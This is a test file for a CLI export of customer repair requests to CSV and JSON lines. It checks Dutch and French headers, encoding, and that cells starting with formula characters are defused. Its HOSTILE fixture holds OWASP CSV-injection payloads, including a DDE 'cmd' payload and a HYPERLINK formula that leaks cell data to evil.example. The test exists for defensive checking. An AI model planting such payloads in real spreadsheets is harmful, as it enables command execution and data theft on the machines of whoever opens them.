/**
 * `npm run requests -- export`, run as the desk's staff run it, read back
 * with a real CSV reader (csv-parse) as a spreadsheet reads the file: what
 * the cells show, in which columns, under which headers.
 */
import fc from 'fast-check';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../../src/cli/requests/export-rows';
import { buildTestApp, injectSubmit, injectUpload, png, simpleRequest, type TestServer } from '../../server/helpers';
import { baseEnv, requests, ROOT, storeEnv } from './run-requests';

let server: TestServer;
let folder: string;
const stored: Record<'hostile' | 'person', { reference: string; createdAt: number }> = {} as never;

/** What an attacker types, field by field (OWASP CSV-injection payloads). */
const HOSTILE = {
  last_name: '=HYPERLINK("x")',
  phone_number: "-1+cmd|' /C calc'!A0",
  phone_number2: '+31 6 12345678',
  type: '-(1)+1',
  serial_number: '@SUM(A1)',
  description: '\t+1+HYPERLINK("http://evil.example/?leak="&A1)',
  purchase_date: '=1+1',
};

/** A customer as the desk meets them: accents, and a description of two lines with a semicolon in it. */
const PERSON = {
  last_name: 'Zoë Dupré-Müller',
  city: 'Liège',
  type: '=A1*2',
  description: 'Lekt water; vooral bij 60 °C.\nDaarna slaat de stroom af.',
};

/** The spec's forms' columns under their Dutch headers, in this order; a form or field added as data adds its own columns. */
const DUTCH_HEADERS = [
  'Referentie', 'Ontvangen', 'Merkpagina', 'Formulier', 'Taal van de pagina',
  'Naam', 'Straatnaam', 'Huisnummer', 'Toevoeging', 'Postcode', 'Plaats', 'Land', 'E-mail', 'Telefoon', 'Mobiel',
  'Merk', 'Type', 'Serienummer', 'Aankoopdatum', 'Installatiedatum', 'Klachtomschrijving',
  'Foto van het typeplaatje', 'Foto van de aankoopbon', 'Aanvullende informatie', 'E-mail van dealer', 'Taal van de klant',
  'Akkoord met het privacybeleid',
];

async function submitted(brand: string, fields: Record<string, unknown>) {
  const [image1, image2] = [await injectUpload(server.app, await png()), await injectUpload(server.app, await png())];
  const res = await injectSubmit(server.app, brand, { ...simpleRequest(image1, image2), ...fields });
  expect(res.statusCode).toBe(201);
  const { reference } = res.json() as { reference: string };
  const [{ created_at }] = await server.sql.all<{ created_at: number }>('SELECT created_at FROM requests WHERE reference = ?', [reference]);
  return { reference, createdAt: Number(created_at) };
}

beforeAll(async () => {
  server = await buildTestApp();
  stored.hostile = await submitted('hanant', { ...HOSTILE, brand: 'Senza Nome' });
  stored.person = await submitted('ilve', PERSON);
  folder = mkdtempSync(join(tmpdir(), 'export-'));
});
afterAll(async () => {
  await server.dispose();
  rmSync(folder, { recursive: true, force: true });
});

const exportTo = (file: string, ...args: string[]) => requests(['export', '--out', file, ...args], { env: storeEnv(server.config) });

/** The file as a spreadsheet reads it: UTF-8 after its byte order mark, records ending in CRLF. */
function spreadsheet(file: string, delimiter = ';'): { header: string[]; rows: Record<string, string>[] } {
  const bytes = readFileSync(file);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header, ...rows] = parse(bytes, { bom: true, delimiter, record_delimiter: '\r\n' }) as string[][];
  return { header, rows: rows.map((cells) => Object.fromEntries(header.map((h, i) => [h, cells[i]]))) };
}

/** The row of a request: its reference is the first column, whatever the language calls it. */
const rowOf = (rows: Record<string, string>[], reference: string) => rows.find((r) => Object.values(r)[0] === reference)!;

describe('npm run requests -- export --out FILE', { timeout: 60_000 }, () => {
  it('writes a CSV a Dutch spreadsheet opens as typed: BOM, ";", headers in Dutch, times with the offset, formulas defused', async () => {
    const file = join(folder, 'aanvragen.csv');
    const run = await exportTo(file);
    expect(run).toMatchObject({ code: 0, stdout: '' });
    expect(run.stderr).toMatch(/^(SQLite .*requests\.db|PostgreSQL \S+)\nExported 2 requests to .*aanvragen\.csv\.\n$/);

    const { header, rows } = spreadsheet(file);
    expect(header.filter((h) => DUTCH_HEADERS.includes(h))).toEqual(DUTCH_HEADERS);
    expect(rows).toHaveLength(2);
    const person = rowOf(rows, stored.person.reference);
    expect(person).toMatchObject({ Naam: 'Zoë Dupré-Müller', Plaats: 'Liège', Merkpagina: 'ilve', Formulier: 'Eenvoudig formulier', 'Taal van de pagina': 'Nederlands' });
    // One cell, both lines and the semicolon in it, as the customer wrote them.
    expect(person.Klachtomschrijving).toBe(PERSON.description);
    // Text a spreadsheet shows as text, never a formula it would run.
    expect(person.Type).toBe("'=A1*2");
    const [, date, time, offset] = /^(\d{4}-\d\d-\d\d) (\d\d:\d\d:\d\d) ([+-]\d\d:\d\d)$/.exec(person.Ontvangen) ?? [];
    expect(['+01:00', '+02:00']).toContain(offset); // Europe/Brussels, winter or summer
    expect(Date.parse(`${date}T${time}${offset}`)).toBe(Math.floor(stored.person.createdAt / 1000) * 1000);
    // Nothing but the header and the two records (the description's own line break is a bare LF).
    expect(readFileSync(file, 'utf8').split('\r\n').filter(Boolean)).toHaveLength(3);
  });

  it('says the headers in French with --language fr', async () => {
    const file = join(folder, 'demandes.csv');
    expect((await exportTo(file, '--language', 'fr')).code).toBe(0);
    const { header, rows } = spreadsheet(file);
    expect(header.slice(0, 6)).toEqual(['Référence', 'Reçue le', 'Page de la marque', 'Formulaire', 'Langue de la page', 'Nom']);
    expect(header).toContain('Description de la plainte');
    expect(rowOf(rows, stored.person.reference).Nom).toBe('Zoë Dupré-Müller');
  });

  it('refuses to overwrite a file unless --force, and then replaces it whole', async () => {
    const file = join(folder, 'bestaand.csv');
    writeFileSync(file, 'earlier export');
    const refused = await exportTo(file);
    expect(refused.code).toBe(1);
    expect(refused.stderr.trim()).toBe(`${file} exists already: name another file, or add --force to overwrite it.`);
    expect(readFileSync(file, 'utf8')).toBe('earlier export');

    expect((await exportTo(file, '--force')).code).toBe(0);
    expect(spreadsheet(file).rows).toHaveLength(2);
    expect(readdirSync(folder).filter((f) => f.includes('partial'))).toEqual([]);
  });

  it('through npm run, writes the file itself: npm’s banner stays on the terminal', async () => {
    const file = join(folder, 'via-npm.csv');
    const npm = spawn('npm', ['run', 'requests', '--', 'export', '--out', file], { cwd: ROOT, env: { ...baseEnv(), ...storeEnv(server.config) } });
    let stdout = '';
    npm.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    const [code] = await once(npm, 'close');
    expect(code).toBe(0);
    expect(stdout).toContain('> tsx src/cli/requests.ts export --out');
    expect(spreadsheet(file).header.filter((h) => DUTCH_HEADERS.includes(h))).toEqual(DUTCH_HEADERS);
  });
});

describe('npm run requests -- export (other forms)', { timeout: 60_000 }, () => {
  it('writes stored requests as JSON lines with --format jsonl, times in UTC', async () => {
    const run = await requests(['export', '--format', 'jsonl'], { env: storeEnv(server.config) });
    const lines = run.stdout.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines).toHaveLength(2);
    expect(lines.find((l) => l.reference === stored.hostile.reference)).toMatchObject({ brand_id: 'hanant', locale: 'nl', request: { brand: 'Senza Nome', type: HOSTILE.type } });
    expect(lines.find((l) => l.reference === stored.person.reference)?.created_at).toBe(new Date(stored.person.createdAt).toISOString());
  });

  it.each([
    [',', ['--separator', ',']],
    [';', []],
  ])('writes CSV separated by "%s" to stdout with no cell a formula', async (separator, args) => {
    const run = await requests(['export', ...args], { env: storeEnv(server.config) });
    const [header, ...rows] = parse(run.stdout, { bom: true, delimiter: separator }) as string[][];
    const row = rows.find((r) => r[0] === stored.hostile.reference)!;
    const cell = (label: string) => row[header.indexOf(label)];
    expect(cell('Naam')).toBe(`'${HOSTILE.last_name}`);
    expect(cell('Telefoon')).toBe(`'${HOSTILE.phone_number}`);
    expect(cell('Type')).toBe(`'${HOSTILE.type}`);
    expect(cell('Serienummer')).toBe(`'${HOSTILE.serial_number}`);
    expect(cell('Klachtomschrijving')).toBe(`'${HOSTILE.description}`);
    expect(cell('Aankoopdatum')).toBe(`'${HOSTILE.purchase_date}`);
    // Readable as typed, behind the apostrophe a spreadsheet shows as text.
    expect(cell('Mobiel')).toBe("'+31 6 12345678");
    expect(cell('Postcode')).toBe('1234 AB');
    for (const value of rows.flat()) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('defuses a cell starting with a carriage return, and quotes what is plain', () => {
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(12)).toBe('"12"');
    expect(csvCell(undefined)).toBe('""');
  });

  it('defuses a formula behind leading blanks a spreadsheet may skip: a no-break space, other spaces, zero-width ones, a BOM', () => {
    expect(csvCell('\u00a0=1+1')).toBe(`"'\u00a0=1+1"`);
    const blanks = ['\u00a0', ' ', '\u2007', '\u202f', '\u3000', '\u200b', '\u2060', '\ufeff', '\u2028', '\n'];
    const starts = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...blanks), { maxLength: 4 }), fc.constantFrom(...starts), fc.string(), (lead, start, rest) => {
        expect(csvCell(`${lead.join('')}${start}${rest}`).startsWith(`"'`)).toBe(true);
      }),
    );
    // Text that only starts with a blank stays as typed.
    expect(csvCell('\u00a0Jansen')).toBe('"\u00a0Jansen"');
  });

  it('refuses a separator a spreadsheet would not expect', async () => {
    const run = await requests(['export', '--separator', '"'], { env: storeEnv(server.config) });
    expect(run.code).toBe(2);
    expect(run.stderr.trim().split('\n')).toHaveLength(1);
  });
});
